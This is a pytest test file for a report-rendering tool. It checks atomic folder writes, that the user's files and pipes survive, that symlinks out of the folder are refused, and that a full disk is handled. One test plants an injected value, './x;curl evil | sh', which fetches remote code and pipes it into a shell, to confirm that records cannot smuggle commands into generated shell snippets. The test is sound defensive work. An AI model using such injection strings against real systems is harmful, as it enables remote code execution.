"""A report's folder is written completely or not at all, and the user's files stay."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import Report, one_line, run, text_of, tree
from records import few, h100, keep, no_gpu


def test_rendering_in_place_changes_nothing(report: Report, tmp_path: Path) -> None:
    """A report's folder is also a record's: it can be both input and output."""
    report(few())
    before = tree(tmp_path / "report")
    result = run("render", tmp_path / "report", "--output", tmp_path / "report")
    assert result.returncode == 0 and tree(tmp_path / "report") == before


IN_THE_WAY = ["README.md", "record.json", "report.html", "charts/matmul_ladder.svg"]


@pytest.mark.parametrize("pipe", [False, True])
@pytest.mark.parametrize("name", IN_THE_WAY)
def test_a_file_of_the_user_is_not_overwritten(name: str, pipe: bool, tmp_path: Path) -> None:
    """A pipe does not block the command either."""
    out = tmp_path / "out"
    (out / name).parent.mkdir(parents=True)
    if pipe:
        os.mkfifo(out / name)
    else:
        (out / name).write_text("mine")
    line = one_line(run("render", keep(tmp_path / "input", few()), "--output", out), 1)
    assert f"{out / name}: is not a file of such a report" in line
    assert tree(out) == ({} if pipe else {name: b"mine"}) and (out / name).is_fifo() == pipe


def test_an_identical_file_is_not_in_the_way(report: Report, tmp_path: Path) -> None:
    """A run's folder becomes its report."""
    report(few())
    (tmp_path / "other").mkdir()
    shutil.copy(tmp_path / "report" / "record.json", tmp_path / "other")
    assert run("render", tmp_path / "report", "--output", tmp_path / "other").returncode == 0


def test_a_record_cannot_add_a_shell_command(report: Report) -> None:
    record = few()
    record["environment"]["command"] = "./x;curl evil | sh"
    lines = "\n".join(re.findall(r"```sh\n(.*?)```", text_of(report(record)), re.S)).split("\n")
    assert len(lines) > 1 and not any("curl" in line.split("#")[0] for line in lines)


def test_files_of_an_older_report_go_and_other_files_stay(report: Report, tmp_path: Path) -> None:
    folder = tmp_path / "report"
    report(no_gpu("matvec/"))
    assert (folder / "matvec.md").exists()
    for name in ("notes.md", "charts/my.svg"):
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_text("mine")
    os.mkfifo(folder / "pipe.md")
    report(no_gpu("matmul/"))
    left = tree(folder)
    assert left["notes.md"] == left["charts/my.svg"] == b"mine" and "matvec.md" not in left
    charts = {name for name in left if name.startswith("charts/")}
    assert "charts/my.svg" in charts and not any("matvec" in name for name in charts)
    assert (folder / "pipe.md").is_fifo()


def test_links_out_of_the_folder_are_refused(report: Report, tmp_path: Path) -> None:
    """Links to a folder, to a file, or to nothing."""
    record, elsewhere = few(), tmp_path / "else"
    report(record)
    folder = tmp_path / "report"
    elsewhere.mkdir()
    for name in ("charts", "cases.csv"):
        shutil.move(folder / name, tmp_path / "kept")
        for target in (elsewhere, tmp_path / "nowhere"):
            (folder / name).symlink_to(target)
            result = run("render", folder, "--output", folder)
            assert " or a link leads" in one_line(result, 1) and not [*elsewhere.iterdir()]
            (folder / name).unlink()
        shutil.move(tmp_path / "kept", folder / name)


def test_a_folder_that_cannot_be_written_is_one_line(tmp_path: Path) -> None:
    """A file has the folder's name, or not even root can create the folder."""
    (tmp_path / "report").write_text("mine")
    for target in (tmp_path / "report", Path("/proc/recheck-report")):
        line = one_line(run("render", keep(tmp_path / "input", few()), "--output", target), 1)
        assert f"error: {target}: cannot be written: " in line
    assert (tmp_path / "report").read_text() == "mine"


@pytest.fixture
def small_disk(tmp_path: Path) -> Iterator[Path]:
    """A file system of 1 MiB: enough for one report of the small record and half of another."""
    mount = tmp_path / "disk"
    mount.mkdir()
    command = ["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", str(mount)]
    if not shutil.which("mount") or subprocess.run(command, capture_output=True).returncode:
        pytest.skip("no small disk: mounting a tmpfs needs root")
    yield mount
    subprocess.run(["umount", str(mount)], check=True)


def test_a_full_disk_leaves_the_earlier_report(small_disk: Path, tmp_path: Path) -> None:
    target = small_disk / "report"
    result = run("render", keep(tmp_path / "input", few()), "--output", target)
    assert result.returncode == 0, result.stderr
    before = tree(small_disk)
    line = one_line(run("render", keep(tmp_path / "input", h100()), "--output", target), 1)
    assert line == f"error: {target}: cannot be written: No space left on device\n"
    assert tree(small_disk) == before


def test_readme_is_replaced_last(
    report: Report, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A rename that fails half way leaves the earlier README and no temporary file."""
    from recheck_report.commands import Failed, output

    report(few())
    before = tree(tmp_path / "report")
    renames = iter([os.replace])

    def one_rename(source: str, target: Path) -> None:
        rename = next(renames, None)
        if rename is None:
            raise PermissionError(1, "Operation not permitted")
        rename(source, target)

    monkeypatch.setattr(os, "replace", one_rename)
    files = {name: data + b" " for name, data in before.items() if name != "README.md"}
    with pytest.raises(Failed):
        output.write({**files, "README.md": before["README.md"] + b" "}, tmp_path / "report")
    after = tree(tmp_path / "report")
    assert set(after) == set(before) and after["README.md"] == before["README.md"]
